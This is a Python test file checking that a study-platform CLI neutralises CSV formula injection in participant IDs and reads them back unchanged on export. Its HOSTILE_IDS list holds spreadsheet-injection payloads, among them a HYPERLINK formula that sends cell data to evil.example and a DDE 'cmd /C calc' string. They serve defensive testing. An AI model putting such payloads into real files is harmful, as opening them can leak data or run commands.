"""No CSV we write runs as a spreadsheet formula (CSV injection), and links read back as written.

`study create --participants-file` wrote an id such as `=HYPERLINK(...)` into links.csv as it was:
a spreadsheet opening the file made it a link. Every CSV cell that starts a formula now gets a
leading `'` (OWASP), and `study export` reads the id back exactly.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from negotiation_platform.cli.main import main
from negotiation_platform.store.csv_cells import neutral, restored, write_rows

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=quoted"]


def test_links_csv_neutralises_formulas_and_export_reads_the_ids_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store, links, ids, results = (tmp_path / name for name in ("s.sqlite", "links.csv", "ids.txt", "out.jsonl"))
    ids.write_text("\n".join([*HOSTILE_IDS, "P001"]) + "\n", encoding="utf-8")
    create = ["study", "create", "--game", "split_100", "--opponents", "concession", "--store", str(store)]
    assert main([*create, "--participants-file", str(ids), "--out", str(links)]) == 0
    cells = [row[0] for row in csv.reader(links.open(encoding="utf-8"))][1:]
    assert cells == [f"'{participant}" for participant in HOSTILE_IDS] + ["P001"]
    assert main(["study", "export", "--store", str(store), "--links", str(links), "--out", str(results)]) == 0
    exported = [json.loads(line)["participant"] for line in results.read_text().splitlines()]
    assert exported == [*HOSTILE_IDS, "P001"]
    capsys.readouterr()


@pytest.mark.parametrize(
    "cell", ["=1+1", "+x", "-x", "@x", "\t=x", "\r=x", "'", "'x", "''", "'-x", "plain", "", "-1.5", "+2", "1e-3"]
)
def test_a_cell_is_neutral_and_restored_one_to_one(cell: str) -> None:
    written = neutral(cell)
    assert restored(str(written)) == cell
    assert not str(written).startswith(("=", "+", "@", "\t", "\r")) or written == cell == "+2"
    out = io.StringIO()
    write_rows(out, [("a", "b"), (cell, 3)])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1] == [str(written), "3"]
